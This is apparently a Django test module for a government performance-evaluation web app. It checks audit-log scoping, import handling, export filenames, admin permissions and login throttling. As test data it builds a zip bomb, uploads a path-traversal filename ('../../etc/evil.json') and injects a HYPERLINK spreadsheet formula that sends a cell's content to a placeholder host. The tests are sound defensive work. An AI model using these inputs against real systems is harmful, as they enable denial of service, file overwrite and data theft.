"""Review findings: what one unit's pages may show of the audit log, and hostile imports."""

from __future__ import annotations

import io
import zipfile
from datetime import date, timedelta

from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from jixiao_web.accounts.models import Department, Role, Unit
from jixiao_web.evaluations.models import Round, Submission
from tests.web.base import PASSWORD, WebTestCase, small_form


class AuditLogScopeTests(WebTestCase):
    def test_the_history_page_shows_no_log_of_a_same_named_unit_elsewhere(self) -> None:
        # 天心 has a unit and a round with the very names of 岳麓's: str(submission) is equal
        dept = Department.objects.create(region=self.far_region, name="区委")
        twin = Unit.objects.create(department=dept, name=self.unit.name)
        twin_head = self.person("twin_head", Role.HEAD, unit=twin)
        far_round = Round.objects.create(
            region=self.far_region,
            year=2021,
            kind="department",
            title=self.round.title,
            deadline=date.today() + timedelta(days=10),
        )
        twin_s = Submission.start(by=twin_head, round=far_round, content=small_form())
        self.assertEqual(str(twin_s), str(self.submission))
        twin_s.transition("submit", by=twin_head)
        twin_s.transition("return", by=self.far_reviewer, comment="天心内部意见：资金合计有误")

        self.client.force_login(self.filler)
        page = self.client.get(reverse("revisions", args=[self.submission.pk]))
        self.assertEqual(page.status_code, 200)
        self.assertNotContains(page, "天心内部意见")
        self.assertNotContains(page, "twin_head")

    def test_the_history_page_still_shows_the_forms_own_log(self) -> None:
        s = self.move_to("returned")
        self.client.force_login(self.filler)
        page = self.client.get(reverse("revisions", args=[s.pk]))
        self.assertContains(page, "请核对资金合计")


def zip_bomb(name: str, member: str, size: int) -> bytes:
    """An office-looking zip whose one member inflates to ``size`` bytes of zeros."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        with z.open(member, "w", force_zip64=True) as out:
            chunk = b"\0" * (1 << 20)
            for _ in range(size >> 20):
                out.write(chunk)
    return buf.getvalue()


class HostileImportTests(WebTestCase):
    def test_a_zip_bomb_is_refused_with_a_clear_message_before_reading(self) -> None:
        data = zip_bomb("bomb.docx", "word/document.xml", 120 << 20)
        self.assertLess(len(data), 2 << 20)  # small on the wire
        self.client.force_login(self.filler)
        page = self.client.post(
            reverse("import", args=[self.submission.pk]),
            {"file": SimpleUploadedFile("炸弹.docx", data), "version": 1},
            follow=True,
        )
        self.assertEqual(page.status_code, 200)
        self.assertContains(page, "导入失败")
        self.assertContains(page, "解压后过大")
        self.assertEqual(self.s().version, 1)  # the draft is unchanged

    def test_a_file_named_with_a_path_is_stored_under_a_generated_name(self) -> None:
        from jixiao.serialize import dump_value
        from jixiao_web.evaluations.models import Upload

        self.client.force_login(self.filler)
        upload = SimpleUploadedFile("../../etc/evil.json", dump_value(small_form()).encode())
        self.client.post(
            reverse("import", args=[self.submission.pk]), {"file": upload, "version": 1}
        )
        u = Upload.objects.get()
        self.assertEqual(u.name, "evil.json")
        self.assertNotIn("evil", u.stored)
        self.assertNotIn("/", u.stored)


class DownloadNameTests(WebTestCase):
    def test_a_slash_in_a_unit_name_does_not_reach_the_file_name(self) -> None:
        Unit.objects.filter(pk=self.unit.pk).update(name="妇联/宣传部")
        self.client.force_login(self.filler)
        r = self.client.get(reverse("export", args=[self.submission.pk, "json"]))
        disposition = r["Content-Disposition"]
        self.assertIn("filename*=UTF-8''2021-", disposition)
        self.assertNotIn("/", disposition.split("filename*=UTF-8''", 1)[1])

    def test_the_overview_export_names_its_file_in_escaped_utf8(self) -> None:
        self.client.force_login(self.reviewer)
        r = self.client.get(reverse("overview_export", args=[self.round.pk]))
        disposition = r["Content-Disposition"]
        self.assertTrue(disposition.isascii(), disposition)
        self.assertTrue(disposition.startswith("attachment; "), disposition)
        name = disposition.split("filename*=UTF-8''", 1)[1]
        from urllib.parse import unquote

        self.assertEqual(unquote(name), f"{self.round.title}-汇总.xlsx")


class RegionAdminTests(WebTestCase):
    def test_a_region_administrator_cannot_touch_a_superuser_of_their_region(self) -> None:
        from django.contrib.auth.models import Permission

        boss = self.person("boss", Role.ADMIN, region=self.region)
        boss.is_staff = boss.is_superuser = True  # as `jixiao serve --demo` makes its admin
        boss.save()
        self.admin.is_staff = True
        self.admin.save()
        self.admin.user_permissions.set(
            Permission.objects.filter(content_type__app_label__in=["accounts", "auth"])
        )
        self.client.force_login(self.admin)
        users = self.client.get(reverse("admin:auth_user_changelist")).content.decode()
        self.assertNotIn(">boss<", users)
        for url in (
            reverse("admin:auth_user_change", args=[boss.pk]),
            reverse("admin:auth_user_password_change", args=[boss.pk]),
        ):
            self.assertNotEqual(self.client.get(url).status_code, 200, url)
        self.client.post(
            reverse("admin:auth_user_password_change", args=[boss.pk]),
            {"password1": "Xin-mi-ma-2026-abc", "password2": "Xin-mi-ma-2026-abc"},
        )
        boss.refresh_from_db()
        self.assertFalse(boss.check_password("Xin-mi-ma-2026-abc"))


class OverviewExportInjectionTests(WebTestCase):
    def test_a_project_name_typed_as_a_formula_stays_text_in_the_bureaus_excel(self) -> None:
        import openpyxl

        rnd = Round.objects.create(
            region=self.region,
            year=2021,
            kind="project",
            title="2021年度项目支出绩效自评",
            deadline=date.today() + timedelta(days=10),
        )
        hostile = '=HYPERLINK("http://example.invalid/?"&A1,"点击查看")'
        s = Submission.start(by=self.head, round=rnd, project=hostile)
        s.transition("submit", by=self.head)
        self.client.force_login(self.reviewer)
        r = self.client.get(reverse("overview_export", args=[rnd.pk]))
        ws = openpyxl.load_workbook(io.BytesIO(r.content)).active
        cells = [c for row in ws.iter_rows() for c in row if c.value == hostile]
        self.assertEqual(len(cells), 1)
        self.assertEqual(cells[0].data_type, "s")  # text, not a formula Excel would run


class RegionAdminEvaluationsTests(WebTestCase):
    def test_a_region_administrator_sees_only_their_regions_rounds_and_no_drafts(self) -> None:
        from django.contrib.auth.models import Permission

        far_round = Round.objects.create(
            region=self.far_region,
            year=2021,
            kind="department",
            title="天心区2021年度轮次",
            deadline=date.today() + timedelta(days=10),
        )
        self.admin.is_staff = True
        self.admin.save()
        self.admin.user_permissions.set(
            Permission.objects.filter(content_type__app_label="evaluations")
        )
        self.client.force_login(self.admin)
        rounds = self.client.get(reverse("admin:evaluations_round_changelist"))
        self.assertContains(rounds, self.round.title)
        self.assertNotContains(rounds, "天心区2021年度轮次")
        self.assertNotEqual(
            self.client.get(
                reverse("admin:evaluations_round_change", args=[far_round.pk])
            ).status_code,
            200,
        )
        submissions = self.client.get(reverse("admin:evaluations_submission_changelist"))
        self.assertNotContains(submissions, "天心区2021年度轮次")  # not even in the filter
        draft_page = reverse("admin:evaluations_submission_change", args=[self.submission.pk])
        self.assertNotEqual(self.client.get(draft_page).status_code, 200)  # a unit's draft
        self.move_to("submitted")
        self.assertEqual(self.client.get(draft_page).status_code, 200)


class RefusedImportTests(WebTestCase):
    def test_a_file_for_a_form_that_cannot_change_is_neither_read_nor_kept(self) -> None:
        from jixiao.serialize import dump_value
        from jixiao_web.evaluations.models import Upload

        self.move_to("submitted")
        self.client.force_login(self.head)
        page = self.client.post(
            reverse("import", args=[self.submission.pk]),
            {"file": SimpleUploadedFile("a.json", dump_value(small_form()).encode()), "version": 2},
            follow=True,
        )
        self.assertContains(page, "导入失败")
        self.assertContains(page, "不能修改")
        self.assertNotContains(page, "已导入")  # it used to claim success as well
        self.assertFalse(Upload.objects.exists())


class AdminLoginThrottleTests(WebTestCase):
    def test_the_admin_login_is_throttled_like_the_main_one(self) -> None:
        from django.conf import settings

        self.admin.is_staff = True
        self.admin.save()
        url = reverse("admin:login")
        for _ in range(settings.LOGIN_MAX_FAILURES):
            self.client.post(url, {"username": "admin", "password": "wrong-password"})
        r = self.client.post(url, {"username": "admin", "password": PASSWORD, "next": "/admin/"})
        self.assertEqual(r.status_code, 429)
        self.assertIn("登录失败次数过多", r.content.decode())
        self.assertNotIn("_auth_user_id", self.client.session)
